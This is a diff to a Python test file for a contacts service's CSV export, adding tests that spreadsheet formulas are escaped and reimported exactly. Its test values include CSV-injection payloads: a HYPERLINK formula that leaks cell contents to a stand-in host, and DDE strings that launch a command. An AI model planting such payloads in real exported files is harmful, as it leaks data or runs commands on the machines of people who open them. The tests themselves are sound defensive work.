@@ -2,11 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import re
 from typing import Any
 
+import pytest
 import vobject
 from flask.testing import FlaskClient
+from hypothesis import given
+from hypothesis import strategies as st
+
+from services.contacts.csvfiles import escape_formula, join_list, split_list, unescape_formula
 
 from .conftest import Maker, suffix
 from .test_import import _commit, _tagged, _upload
@@ -22,6 +29,92 @@ def _strict_vcard_lines(text: str) -> None:
     for index, line in enumerate(lines):
         if line == "BEGIN:VCARD":
             assert lines[index + 1] == "VERSION:4.0"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (
+            '=HYPERLINK("http://x.example?leak="&A1,"Details")',
+            '\'=HYPERLINK("http://x.example?leak="&A1,"Details")',
+        ),
+        ("=1+1", "'=1+1"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("+Bäckerei", "'+Bäckerei"),
+        ("\tEingerückt", "'\tEingerückt"),
+        ("\r=1", "'\r=1"),
+        # Numbers and phone numbers stay as they are.
+        ("+49 381 123456", "+49 381 123456"),
+        ("-12.5", "-12.5"),
+        ("-", "-"),
+        ("+49 (0)381 / 12-34", "+49 (0)381 / 12-34"),
+        # An apostrophe of the value's own before such a character is kept by one more.
+        ("'=schon", "''=schon"),
+        ("'+49 381", "''+49 381"),
+        ("''-x", "'''-x"),
+        # Nothing else is touched.
+        ("Bäckerei = Brot", "Bäckerei = Brot"),
+        ("'s Backstübchen", "'s Backstübchen"),
+        ("info@example.org", "info@example.org"),
+        ("", ""),
+    ],
+)
+def test_formulas_are_escaped_and_the_escape_undone(value: str, cell: str) -> None:
+    assert escape_formula(value) == cell
+    assert unescape_formula(cell) == value
+
+
+@given(st.text())
+def test_every_value_comes_back_through_the_escape(value: str) -> None:
+    cell = escape_formula(value)
+    assert unescape_formula(cell) == value
+    assert not cell[:1] or cell[0] not in "=+-@\t\r" or re.fullmatch(r"[0-9 +\-()/.,]*", cell)
+
+
+@given(
+    st.lists(
+        st.text(min_size=1).filter(lambda item: item == item.strip() and "\x00" not in item),
+        min_size=1,
+    )
+)
+def test_every_list_comes_back_through_its_cell(items: list[str]) -> None:
+    assert split_list(unescape_formula(escape_formula(join_list(items)))) == items
+
+
+def test_list_cells_of_ours_and_of_other_programs() -> None:
+    assert join_list(["Handel, Gewerbe", "Bau"]) == "Handel, Gewerbe; Bau"
+    assert join_list(["Handel, Gewerbe"]) == '"Handel, Gewerbe"'
+    assert join_list(["Bau; Ausbau", "x"]) == '"Bau; Ausbau"; x'
+    assert split_list("Handel, Gewerbe; Bau") == ["Handel, Gewerbe", "Bau"]
+    assert split_list('"Handel, Gewerbe"') == ["Handel, Gewerbe"]
+    assert split_list("Kunden;Lieferanten") == ["Kunden", "Lieferanten"]  # Outlook
+    assert split_list("Kunden, Lieferanten,") == ["Kunden", "Lieferanten"]  # elsewhere
+
+
+def _imported_elsewhere_unchanged(
+    client: FlaskClient, headers: dict[str, str], text: str, tag: str, listed: str = ""
+) -> None:
+    """The export of the organisations tagged ``listed`` (or ``tag``) imported as new ones,
+    without its ids and ``tag`` renamed: every field of every copy is the original's."""
+    other = f"exp{suffix()}"
+    listed = listed or tag
+    copy = text.replace(tag, other).encode("utf-8-sig")
+    fresh = _upload(client, headers, copy, mapping={"id": None}).get_json()
+    originals = {o["name"].replace(tag, other): o for o in _tagged(client, headers, listed)}
+    assert fresh["created_count"] == len(originals), fresh
+    _commit(client, headers, fresh["id"])
+    copies = {o["name"]: o for o in _tagged(client, headers, listed.replace(tag, other))}
+    assert originals.keys() == copies.keys()
+    ignore = {"id", "created_at", "updated_at", "people", "version"}
+    for name, original in originals.items():
+        expected: dict[str, Any] = {
+            key: (value.replace(tag, other) if isinstance(value, str) else value)
+            for key, value in original.items()
+            if key not in ignore
+        }
+        expected["tags"] = [t.replace(tag, other) for t in original["tags"]]
+        assert {k: v for k, v in copies[name].items() if k not in ignore} == expected
 
 
 def test_csv_export_of_a_filtered_list_reimports_cleanly(
@@ -69,25 +162,76 @@ def test_csv_export_of_a_filtered_list_reimports_cleanly(
     assert (done["created_count"], done["updated_count"], done["skipped_count"]) == (0, 0, 2)
 
     # As another office would import it: every field arrives unchanged.
-    other = f"exp{suffix()}"
-    copy = text.replace(tag, other).encode("utf-8-sig")
-    fresh = _upload(contacts_client, coordinator, copy, mapping={"id": None}).get_json()
-    assert fresh["created_count"] == 2, fresh
-    _commit(contacts_client, coordinator, fresh["id"])
-    originals = {
-        o["name"].replace(tag, other): o for o in _tagged(contacts_client, coordinator, tag)
-    }
-    copies = {o["name"]: o for o in _tagged(contacts_client, coordinator, other)}
-    assert originals.keys() == copies.keys()
-    ignore = {"id", "created_at", "updated_at", "people", "version"}
-    for name, original in originals.items():
-        expected: dict[str, Any] = {
-            key: (value.replace(tag, other) if isinstance(value, str) else value)
-            for key, value in original.items()
-            if key not in ignore
-        }
-        expected["tags"] = [t.replace(tag, other) for t in original["tags"]]
-        assert {k: v for k, v in copies[name].items() if k not in ignore} == expected
+    _imported_elsewhere_unchanged(contacts_client, coordinator, text, tag)
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+def test_csv_export_defuses_formulas_and_reimports_exactly(
+    contacts_client: FlaskClient, coordinator: dict[str, str], make_org: Maker
+) -> None:
+    tag = f"exp{suffix()}"
+    group = f"Handel, Gewerbe {tag}"  # a tag with a comma
+    make_org(
+        name=f'=HYPERLINK("https://x.example/?q="&A1;"Öffnen") {tag}',
+        legal_form="@GbR",
+        sector="-2+3+cmd|' /C calc'!A0",
+        street="Warnowallee 20b",  # the number in the street, none of its own
+        postcode="18107",
+        city="'+Groß Klein",
+        email=f"kiosk-{tag}@example.org",
+        phone="+49 381 123456",
+        latitude=-12.5,
+        longitude=-0.25,
+        tags=[group],  # alone in its cell
+        notes="\tEingerückt: Zeile eins\r\nZeile zwei\rdrei\x07\x1b[31m\x0b\x0c\x1f Ende",
+    )
+    make_org(
+        name=f"Bäckerei Größe & Söhne {tag}",
+        street="Groß Kleiner Weg",
+        house_number="4a",
+        city="Rostock",
+        sector="-",
+        tags=[group, "Bau; Ausbau", '"Zitat" am Anfang', "=SUMME(1)", "'@schon"],
+        notes='=1+1 und ein Semikolon; ein Komma, ein "Zitat"',
+    )
+
+    export = contacts_client.get(
+        "/api/v1/organisations/export.csv",
+        query_string={"tags": group},
+        headers=coordinator,
+    )
+    content = export.get_data()
+    text = content.decode("utf-8-sig")
+    rows = _cells(text)
+    assert len(rows) == 3
+    for row in rows:  # no cell a spreadsheet would run
+        for cell in row:
+            assert not cell[:1] or cell[0] not in "=+-@\t\r" or re.fullmatch(r"[0-9 +\-.]*", cell)
+    [kiosk] = [dict(zip(rows[0], row, strict=True)) for row in rows if "HYPERLINK" in row[2]]
+    assert kiosk["name"].startswith("'=HYPERLINK(")
+    assert (kiosk["phone"], kiosk["latitude"], kiosk["city"]) == (
+        "+49 381 123456",
+        "-12.5",
+        "''+Groß Klein",
+    )
+    assert (kiosk["street"], kiosk["house_number"], kiosk["tags"]) == (
+        "Warnowallee 20b",
+        "",
+        f'"{group}"',
+    )
+
+    # The same file back: nothing new, every row matched, and none of them changed.
+    again = _upload(contacts_client, coordinator, content).get_json()
+    assert (again["valid_rows"], again["invalid_rows"]) == (2, 0), again["errors"]
+    assert (again["created_count"], again["updated_count"], again["skipped_count"]) == (0, 2, 0)
+    done = _commit(contacts_client, coordinator, again["id"]).get_json()
+    assert (done["created_count"], done["updated_count"], done["skipped_count"]) == (0, 0, 2)
+
+    # As another office would import it: every value arrives exactly.
+    _imported_elsewhere_unchanged(contacts_client, coordinator, text, tag, listed=group)
 
 
 def test_vcard_for_one_organisation_and_a_person(
